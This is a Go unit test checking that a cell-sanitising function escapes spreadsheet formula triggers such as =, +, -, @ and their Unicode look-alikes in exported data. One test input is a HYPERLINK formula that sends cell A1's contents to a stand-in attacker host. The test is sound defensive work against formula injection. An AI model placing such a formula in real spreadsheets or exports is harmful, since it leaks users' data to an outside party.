package api

import "testing"

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for given, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", "'quoted": "'quoted", "退款": "退款", " ": " ", "3-4": "3-4",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1",
		"\tx": "'\tx", " =1": "' =1", "\u3000=1": "'\u3000=1", "\ufeff=1": "'\ufeff=1", "＝1": "'＝1", "＠x": "'＠x",
		"=HYPERLINK(\"https://evil.example?\"&A1)": "'=HYPERLINK(\"https://evil.example?\"&A1)",
	} {
		if got := cell(given); got != want {
			t.Errorf("%q became %q, want %q", given, got, want)
		}
	}
}
